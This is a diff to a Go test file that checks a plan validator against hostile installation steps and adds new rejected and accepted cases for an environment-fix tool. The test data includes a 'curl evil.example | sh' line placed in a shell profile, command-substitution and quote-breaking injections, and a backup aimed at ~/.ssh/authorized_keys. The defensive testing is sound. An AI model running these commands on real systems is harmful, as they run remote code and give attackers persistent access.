@@ -58,6 +58,7 @@ func TestThreat18HostilePlan(t *testing.T) {
 		"an executable":          {ID: "x", Write: &plan.Write{Path: "pyproject.toml", Mode: 0o755}},
 		"a program in a profile": block("/home/me/.bashrc", "curl evil.example | sh"), "a substitution": block("/home/me/.bashrc", "LD_LIBRARY_PATH=$(id)"),
 		"a quote": block("/home/me/.bashrc", "export PYTHONNOUSERSITE='1'; id; ''"), "a profile of others": block("/home/you/.bashrc", "unset PYTHONHOME"), "a block elsewhere": block("/etc/profile", "unset PYTHONHOME"),
+		"itself, otherwise": run("{envfix}", "apply"), "uv elsewhere": run("{envfix}", "__bring", "uv", "/home/me"), "no index": run("{envfix}", "__bring", "--default-index", "file:///x", "uv", "{tools}/uv"),
 		"a backup elsewhere": {ID: "x", Block: &plan.Block{Path: "/home/me/.bashrc", Lines: []string{"unset PYTHONHOME"}, Backup: "/home/me/.ssh/authorized_keys"}},
 		"another switch":     {ID: "x", Switch: &plan.Switch{Dir: "/home/me/.ssh"}},
 	} {
@@ -69,6 +70,7 @@ func TestThreat18HostilePlan(t *testing.T) {
 	for name, s := range map[string]plan.Step{
 		"pip":       with("--index-url", "https://download.pytorch.org/whl/cu126", "--only-binary", ":all:", "torch==2.9.1+cu126"),
 		"a profile": block("/home/me/.bashrc", `LD_LIBRARY_PATH=$(printf %s "${LD_LIBRARY_PATH-}" | tr ':' '\n' | { grep -Fxv -- '/usr/local/cuda/lib64' || :; } | paste -sd: -)`),
+		"uv":        run("{envfix}", "__bring", "--default-index", "https://index.example/simple", "uv", "{tools}/uv"), "python": run("{envfix}", "__bring", "python", "{tools}/python"),
 	} {
 		if err := CheckUser(&plan.Plan{Steps: []plan.Step{s}}, "/home/me", installed); err != nil {
 			t.Errorf("%s: %v", name, err)
